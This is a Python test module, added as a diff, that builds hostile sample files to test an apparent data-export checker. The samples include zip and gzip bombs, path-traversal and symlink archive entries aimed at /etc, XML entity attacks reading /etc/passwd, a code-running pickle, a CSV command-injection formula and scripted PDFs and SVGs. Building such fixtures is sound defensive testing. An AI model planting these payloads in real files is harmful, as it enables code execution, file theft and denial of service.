@@ -1,0 +1,431 @@
+"""Files made to mislead, flood, run or hide, and figures and models that carry the rows behind them."""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import io
+import json
+import pickle
+import tarfile
+import zipfile
+from collections.abc import Iterator
+from functools import cache
+from typing import Any
+
+import numpy as np
+import pandas as pd
+
+from tests.unit.output_checking.corpus.containers import (
+    csv,
+    display,
+    excel,
+    notebook,
+    parquet,
+    tarred,
+    word,
+    zipped,
+)
+from tests.unit.output_checking.corpus.planted import NIR, SEED, Planted, planted
+
+SAFE = pd.DataFrame({"ward": ["A", "B"], "patients": [412, 388]})
+VALUES = np.random.default_rng(SEED).normal(70, 12, 60).round(2)
+OTHERS = np.random.default_rng(SEED + 1).normal(25, 4, 60).round(2)
+
+
+class Runs:
+    """Unpickled, it would start a program."""
+
+    def __reduce__(self) -> tuple[Any, tuple[str]]:
+        import os
+
+        return os.system, ("true",)
+
+
+def hostile_cases() -> Iterator[Planted]:
+    yield from _archives()
+    yield from _workbooks()
+    yield from _documents()
+    yield from _pdfs()
+    yield from _figures()
+    yield from _pictures()
+    yield from _models()
+    yield from _texts()
+
+
+def _archives() -> Iterator[Planted]:
+    bomb = zipped({f"{n}.csv": bytes(30 << 20) for n in range(12)})
+    yield planted("a zip bomb", {"bomb.zip": bomb}, "archive-bomb")
+    yield planted("a gzip bomb", {"bomb.csv.gz": gzip.compress(bytes(300 << 20), 9)}, "archive-bomb")
+    yield planted("a path outside", {"a.zip": zipped({"../../etc/cron.d/x.csv": csv(SAFE)})}, "archive-path")
+    yield planted("an absolute path", {"a.tar": tarred({"/etc/x.csv": csv(SAFE)})}, "archive-path")
+    linked = io.BytesIO()
+    with tarfile.open(fileobj=linked, mode="w") as archive:
+        entry = tarfile.TarInfo("link.csv")
+        entry.type, entry.linkname = tarfile.SYMTYPE, "/etc/passwd"
+        archive.addfile(entry)
+    yield planted("a link in a tar", {"a.tar": linked.getvalue()}, "archive-path")
+    nested = csv(SAFE)
+    for level in range(5):
+        nested = zipped({"table.csv" if level == 0 else "inner.zip": nested})
+    yield planted("archives in archives", {"a.zip": nested}, "archive-deep")
+    many = zipped({f"{n}.csv": b"a,b\n1,2\n" for n in range(600)})
+    yield planted("too many members", {"a.zip": many}, "archive-many")
+    yield planted(
+        "a version history", {"a.zip": zipped({".git/config": b"x", "t.csv": csv(SAFE)})}, "version-history"
+    )
+    yield planted(
+        "rows behind an archive", {"a.zip": zipped({"t.csv": csv(SAFE)}) + b"17,44"}, "archive-extra-bytes"
+    )
+    twice = io.BytesIO()
+    with zipfile.ZipFile(twice, "w") as doubled:
+        doubled.writestr("t.csv", csv(SAFE))
+        doubled.writestr("u.csv", NIR)
+    yield planted(
+        "two members of one name",
+        {"a.zip": twice.getvalue().replace(b"u.csv", b"t.csv")},
+        "archive-member-twice",
+    )
+    locked = bytearray(zipped({"t.csv": csv(SAFE)}))
+    locked[6] |= 1
+    locked[locked.rfind(b"PK\x01\x02") + 8] |= 1
+    yield planted("an encrypted zip", {"a.zip": bytes(locked)}, "archive-encrypted")
+    yield planted("a broken zip", {"a.zip": zipped({"t.csv": csv(SAFE)})[:-30]}, "file-type-unsupported")
+    yield planted("a zip under another name", {"a.csv": zipped({"t.csv": csv(SAFE)})}, "file-type-mismatch")
+
+
+def _workbooks() -> Iterator[Planted]:
+    from openpyxl.comments import Comment
+    from openpyxl.workbook.defined_name import DefinedName
+
+    def hidden_sheet(book: Any) -> None:
+        sheet = book.create_sheet("rows")
+        sheet.append(["person_id", "age"])
+        sheet.sheet_state = "veryHidden"
+
+    def hidden_row(book: Any) -> None:
+        book.active.row_dimensions[2].hidden = True
+
+    def hidden_column(book: Any) -> None:
+        book.active.column_dimensions["B"].hidden = True
+
+    def comment(book: Any) -> None:
+        book.active["A1"].comment = Comment("see patient 17", "x")
+
+    def name(book: Any) -> None:
+        book.defined_names["rows"] = DefinedName("rows", attr_text="{17,44;18,51}")
+
+    def formula(book: Any) -> None:
+        book.active["C2"] = '=HYPERLINK("https://example.org/?"&B2)'
+
+    def invisible(book: Any) -> None:
+        book.active["D9"] = 44
+        book.active["D9"].number_format = ";;;"
+
+    changes = (
+        ("a hidden sheet", hidden_sheet, "workbook-hidden-sheet"),
+        ("a hidden row", hidden_row, "workbook-hidden-lines"),
+        ("a hidden column", hidden_column, "workbook-hidden-lines"),
+        ("a comment on a cell", comment, "workbook-comment"),
+        ("a name for values", name, "workbook-defined-name"),
+        ("a formula that reaches out", formula, "workbook-formula-reaching"),
+        ("a cell that shows nothing", invisible, "workbook-hidden-lines"),
+    )
+    for case, change, explanation in changes:
+        yield planted(case, {"t.xlsx": excel(SAFE, change)}, explanation)
+    whole = excel(SAFE)
+    for part in (
+        "xl/pivotCache/pivotCacheRecords1.xml",
+        "xl/externalLinks/externalLink1.xml",
+        "xl/embeddings/oleObject1.bin",
+        "customXml/item1.xml",
+    ):
+        yield planted(f"the part {part}", {"t.xlsx": _with(whole, part, b"<a/>")}, "workbook-hidden-part")
+    macro = _with(whole, "xl/vbaProject.bin", b"x")
+    yield planted("macros", {"t.xlsx": macro}, "file-type-unsupported")
+    laughs = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><l>&b;</l>'
+    yield planted("a billion laughs", {"t.xlsx": _with(whole, "docProps/custom.xml", laughs)}, "xml-entities")
+    kept = (
+        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>17, 44</t></si></sst>'
+    )
+    strings = _with(whole, "xl/sharedStrings.xml", kept)
+    yield planted("texts that no cell shows", {"t.xlsx": strings}, "workbook-unseen-strings")
+    yield planted("encrypted office", {"t.xlsx": b"\xd0\xcf\x11\xe0" + bytes(600)}, "file-type-unsupported")
+
+
+def _documents() -> Iterator[Planted]:
+    def hidden_text(document: Any) -> None:
+        document.add_paragraph().add_run("17, 44").font.hidden = True
+
+    yield planted("hidden text", {"r.docx": word(SAFE, hidden_text)}, "document-hidden-text")
+    whole = word(SAFE)
+    deleted = b"<w:p><w:del><w:r><w:delText>17</w:delText></w:r></w:del></w:p><w:sectPr"
+    changed = _replaced(whole, "word/document.xml", b"<w:sectPr", deleted)
+    yield planted("a tracked deletion", {"r.docx": changed}, "document-changes")
+    for part in ("word/comments.xml", "word/embeddings/book.xlsx"):
+        yield planted(f"the part {part}", {"r.docx": _with(whole, part, b"<a/>")}, "document-hidden-part")
+    picture = _with(whole, "word/media/image1.png", _png())
+    yield planted("a picture without numbers", {"r.docx": picture}, "document-picture")
+    yield planted(
+        "metadata nobody sees", {"t.parquet": parquet(SAFE, {"rows": "17,44"})}, "document-hidden-metadata"
+    )
+    yield planted(
+        "bytes in a parquet", {"t.parquet": _padded_parquet()}, "columnar-extra-bytes", "columnar-unreadable"
+    )
+    yield planted("a broken parquet", {"t.parquet": parquet(SAFE)[:-40]}, "columnar-unreadable")
+
+
+def _pdfs() -> Iterator[Planted]:
+    from pypdf import PdfReader, PdfWriter
+    from pypdf.actions import JavaScript
+
+    plain = pdf("Results of the study. " * 30)
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain)))
+    writer.add_open_action(JavaScript("app.alert(1)"))
+    yield planted("a PDF with JavaScript", {"r.pdf": _written(writer)}, "pdf-active")
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain)))
+    writer.add_attachment("rows.csv", b"17,44")
+    yield planted("a PDF with an attachment", {"r.pdf": _written(writer)}, "pdf-active")
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain)))
+    writer.encrypt("secret", algorithm="RC4-128")
+    yield planted("an encrypted PDF", {"r.pdf": _written(writer)}, "archive-encrypted", "pdf-unreadable")
+    yield planted(
+        "an old version in a PDF", {"r.pdf": plain + b"\n" + plain}, "pdf-versions", "pdf-unreadable"
+    )
+    yield planted("rows behind a PDF", {"r.pdf": plain + b"\n17,44"}, "picture-extra-bytes")
+    yield planted("an identifier in a PDF", {"r.pdf": pdf(f"Patient {NIR}")}, "identifier-nir")
+    yield planted("points in a PDF", {"f.pdf": _drawn("pdf"), "f.csv": csv(SAFE)}, "figure-points")
+
+
+def _figures() -> Iterator[Planted]:
+    import plotly.graph_objects as go
+
+    figures = {
+        "scatter": (go.Scatter(x=VALUES, y=OTHERS, mode="markers"), "figure-points"),
+        "histogram": (go.Histogram(x=VALUES), "figure-raw-values"),
+        "box": (go.Box(y=VALUES), "figure-raw-values"),
+        "violin": (go.Violin(y=VALUES), "figure-raw-values"),
+        "parallel": (go.Splom(dimensions=[{"values": VALUES}, {"values": OTHERS}]), "figure-hidden-values"),
+    }
+    for name, (trace, explanation) in figures.items():
+        figure = go.Figure(trace)
+        page = figure.to_html(include_plotlyjs="cdn").encode()
+        yield planted(f"a plotly {name} page", {"f.html": page}, explanation)
+        output = display(**{"application__vnd.plotly.v1+json": json.loads(figure.to_json())})
+        yield planted(f"a plotly {name} in a notebook", {"n.ipynb": notebook(output)}, explanation)
+    bar = go.Figure(go.Bar(x=["A", "B"], y=[412, 388], customdata=[["x", 17], ["y", NIR]]))
+    yield planted(
+        "a bar with data behind it",
+        {"f.html": bar.to_html(include_plotlyjs="cdn").encode()},
+        "identifier-nir",
+    )
+    yield planted(
+        "a bar of three",
+        {"f.html": _bar(3).to_html(include_plotlyjs="cdn").encode()},
+        "counts-below-threshold",
+    )
+    yield planted(
+        "any library", {"f.html": f"<html><script>{'x=1;' * 2000}</script></html>".encode()}, "markup-script"
+    )
+    vega = {
+        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
+        "data": {"values": [{"x": float(x), "y": float(y)} for x, y in zip(VALUES, OTHERS, strict=True)]},
+        "mark": "point",
+    }
+    for kind, spec, explanation in (
+        ("points", vega, "figure-points"),
+        ("bins", vega | {"mark": "bar", "encoding": {"x": {"bin": True, "field": "x"}}}, "figure-raw-values"),
+    ):
+        page = f'<html><body><div id="v"></div><script>var spec = {json.dumps(spec)};</script></body></html>'
+        yield planted(f"vega {kind} page", {"f.html": page.encode()}, explanation)
+        output = display(**{"application__vnd.vegalite.v5+json": spec})
+        yield planted(f"vega {kind} in a notebook", {"n.ipynb": notebook(output)}, explanation)
+    yield planted("points in an SVG", {"f.svg": _drawn("svg"), "f.csv": csv(SAFE)}, "figure-points")
+    script = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+    yield planted("a script in an SVG", {"f.svg": script, "f.csv": csv(SAFE)}, "markup-active")
+    entity = b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'
+    yield planted("an outside entity in an SVG", {"f.svg": entity, "f.csv": csv(SAFE)}, "xml-entities")
+    hidden = f'<html><body><p style="display:none">{NIR}</p></body></html>'.encode()
+    yield planted("a hidden paragraph", {"p.html": hidden}, "markup-active")
+    yield planted(
+        "a page that fetches",
+        {"p.html": b"<html><img src='https://example.org/?17'></html>"},
+        "markup-active",
+    )
+
+
+def _pictures() -> Iterator[Planted]:
+    from PIL import Image
+    from PIL.PngImagePlugin import PngInfo
+
+    numbers = {"f.csv": csv(SAFE)}
+    yield planted("a figure without numbers", {"f.png": _png()}, "picture-data-missing")
+    yield planted("rows behind a picture", {"f.png": _png() + b"17,44", **numbers}, "picture-extra-bytes")
+    told = PngInfo()
+    told.add_text("Comment", "17,44")
+    yield planted("words in a picture", {"f.png": _png(pnginfo=told), **numbers}, "picture-metadata")
+    photo = io.BytesIO()
+    exif = Image.Exif()
+    exif[0x9286] = "17,44"
+    Image.new("RGB", (20, 20)).save(photo, "JPEG", exif=exif)
+    yield planted("words in a photo", {"f.jpg": photo.getvalue(), **numbers}, "picture-metadata")
+    plain = io.BytesIO()
+    Image.new("RGB", (20, 20)).save(plain, "JPEG")
+    yield planted(
+        "rows behind a photo", {"f.jpg": plain.getvalue() + b"17,44", **numbers}, "picture-extra-bytes"
+    )
+    huge = io.BytesIO()
+    Image.new("1", (40_000, 40_000)).save(huge, "PNG")
+    yield planted("a huge picture", {"f.png": huge.getvalue(), **numbers}, "picture-unreadable")
+
+
+def _models() -> Iterator[Planted]:
+    for name, (content, explanation) in model_files().items():
+        yield planted(f"the model {name}", {name: content}, explanation)
+
+
+@cache
+def model_files() -> dict[str, tuple[bytes, str]]:
+    import lifelines
+    import skops.io
+    import statsmodels.api as sm
+    from sklearn.ensemble import RandomForestClassifier
+    from sklearn.gaussian_process import GaussianProcessRegressor
+    from sklearn.impute import KNNImputer
+    from sklearn.neighbors import KNeighborsClassifier
+    from sklearn.pipeline import make_pipeline
+    from sklearn.preprocessing import MinMaxScaler
+    from sklearn.svm import SVC
+    from sklearn.tree import DecisionTreeClassifier
+
+    x = np.column_stack([VALUES, OTHERS])
+    y = (VALUES > 70).astype(int)
+    curve = lifelines.KaplanMeierFitter().fit(VALUES, y)
+    cox = lifelines.CoxPHFitter().fit(pd.DataFrame({"t": VALUES, "e": y, "x": OTHERS}), "t", "e")
+    neighbours, tree = (
+        KNeighborsClassifier().fit(x, y),
+        DecisionTreeClassifier(random_state=0).fit(x[:, 1:], y),
+    )
+    keeps = "model-keeps-data"
+    return {
+        "knn.pkl": (pickle.dumps(neighbours), keeps),
+        "knn-old.pkl": (pickle.dumps(neighbours, protocol=2), keeps),
+        "svc.pkl": (pickle.dumps(SVC().fit(x, y)), keeps),
+        "gp.joblib": (pickle.dumps(GaussianProcessRegressor().fit(x, y)), keeps),
+        "imputer.pkl": (pickle.dumps(make_pipeline(KNNImputer(), MinMaxScaler()).fit(x)), keeps),
+        "ols.pickle": (pickle.dumps(sm.OLS(OTHERS, sm.add_constant(VALUES)).fit()), keeps),
+        "km.pkl": (pickle.dumps(curve), keeps),
+        "cox.pkl": (pickle.dumps(cox), keeps),
+        "frame.pkl": (pickle.dumps(pd.DataFrame({"x": VALUES})), keeps),
+        "forest.pkl": (pickle.dumps(RandomForestClassifier(5).fit(x, y)), "model-tree-pickle"),
+        "code.pkl": (pickle.dumps(Runs()), "model-code"),
+        "code-old.pkl": (pickle.dumps(Runs(), protocol=0), "model-code"),
+        "dict.pkl": (pickle.dumps({"rows": VALUES.tolist()}), "model-pickle-unknown"),
+        "knn.skops": (skops.io.dumps(neighbours), keeps),
+        "tree.skops": (skops.io.dumps(tree), "model-leaves-small"),
+        "boosted.txt": (b"tree\nversion=v4\nleaf_count=412 3 17\n", "model-leaves-small"),
+    }
+
+
+def _texts() -> Iterator[Planted]:
+    rows = ", ".join(str(value) for value in VALUES)
+    yield planted("an identifier in code", {"study.py": f"nir = '{NIR}'\n".encode()}, "identifier-nir")
+    yield planted("an identifier in a log", {"run.log": f"INFO ok\nWARN {NIR}\n".encode()}, "identifier-nir")
+    yield planted("a telephone in a text", {"n.md": b"Call 06 12 34 56 78"}, "identifier-phone")
+    yield planted(
+        "a date of birth in a text", {"n.txt": "Née le 12 mai 1985.".encode()}, "identifier-birth-date"
+    )
+    yield planted("a stay number in a text", {"n.txt": b"NDA : 240012345"}, "identifier-hospital-number")
+    typed = {"study.py": f"ages = [{rows}]\n".encode()}
+    yield Planted("data typed into code", typed, frozenset({"source-literals"}), by_review=True)
+    summary = b"OLS Regression Results\nNo. Observations:   12\nDf Residuals:   4\nR-squared:  1.000\n"
+    yield planted("a model of few", {"m.txt": summary}, "model-degrees-of-freedom-too-few")
+    yield planted(
+        "a model of few events", {"m.txt": b"number of events observed = 3\n"}, "model-events-too-few"
+    )
+    state = {"application/vnd.jupyter.widget-state+json": {"state": {"a": {"rows": [17, 44]}}}}
+    yield planted("the state of a widget", {"n.ipynb": notebook(widgets=state)}, "notebook-hidden-metadata")
+    output = display(**{"application__vnd.jupyter.widget-view+json": {"model_id": "a"}})
+    yield planted("a widget", {"n.ipynb": notebook(output)}, "notebook-output-unreadable")
+    figure = display(image__png=base64.b64encode(_png()).decode())
+    yield planted("a figure in a notebook", {"n.ipynb": notebook(figure)}, "notebook-picture")
+    yield planted("a table under another name", {"t.png": csv(SAFE)}, "file-type-mismatch")
+    yield planted("a program", {"t.csv": b"\x7fELF" + bytes(200)}, "file-type-unsupported")
+    yield planted("no text at all", {"t.csv": bytes(range(256))}, "file-type-unsupported")
+    yield planted("lines of different length", {"t.csv": b"a,b\n1,2\n3\n"}, "table-unreadable")
+    wide = ",".join(f"c{n}" for n in range(1_000_000)) + "\n" + ",".join(["12"] * 1_000_000)
+    yield planted("a million columns", {"t.csv": wide.encode()}, "table-too-wide")
+    yield planted("a formula in a table", {"t.csv": b"ward,n\n=cmd|' /C calc'!A0,412\n"}, "table-formula")
+
+
+def pdf(text: str) -> bytes:
+    """One page of words."""
+    lines = [text[at : at + 80] for at in range(0, len(text), 80)]
+    shown = " ".join(f"({line.replace('(', '').replace(')', '')}) Tj T*" for line in lines)
+    stream = f"BT /F1 10 Tf 14 TL 40 780 Td {shown} ET".encode("latin-1")
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
+        b" /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
+        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
+    ]
+    written = bytearray(b"%PDF-1.4\n")
+    places = []
+    for number, content in enumerate(objects, start=1):
+        places.append(len(written))
+        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
+    start = len(written)
+    written += b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
+    written += b"trailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start
+    return bytes(written)
+
+
+def _written(writer: Any) -> bytes:
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def _bar(smallest: int) -> Any:
+    import plotly.graph_objects as go
+
+    return go.Figure(go.Bar(x=["A", "B"], y=[412, smallest], name="patients"))
+
+
+def _drawn(kind: str) -> bytes:
+    from matplotlib.figure import Figure
+
+    figure = Figure()
+    figure.subplots().scatter(np.tile(VALUES, 2), np.tile(OTHERS, 2) + 1e-3)
+    written = io.BytesIO()
+    figure.savefig(written, format=kind)
+    return written.getvalue()
+
+
+def _png(**more: Any) -> bytes:
+    from PIL import Image
+
+    written = io.BytesIO()
+    Image.new("L", (8, 8)).save(written, "PNG", **more)
+    return written.getvalue()
+
+
+def _with(whole: bytes, name: str, content: bytes) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
+        members = {one: archive.read(one) for one in archive.namelist()}
+    return zipped(members | {name: content})
+
+
+def _replaced(whole: bytes, name: str, old: bytes, new: bytes) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
+        content = archive.read(name)
+    assert old in content
+    return _with(whole, name, content.replace(old, new, 1))
+
+
+def _padded_parquet() -> bytes:
+    """Bytes between the columns and the footer, whose length keeps pointing at the footer."""
+    whole = parquet(SAFE)
+    length = int.from_bytes(whole[-8:-4], "little")
+    return whole[: -8 - length] + b"17,44,1950\n" * 900 + whole[-8 - length :]
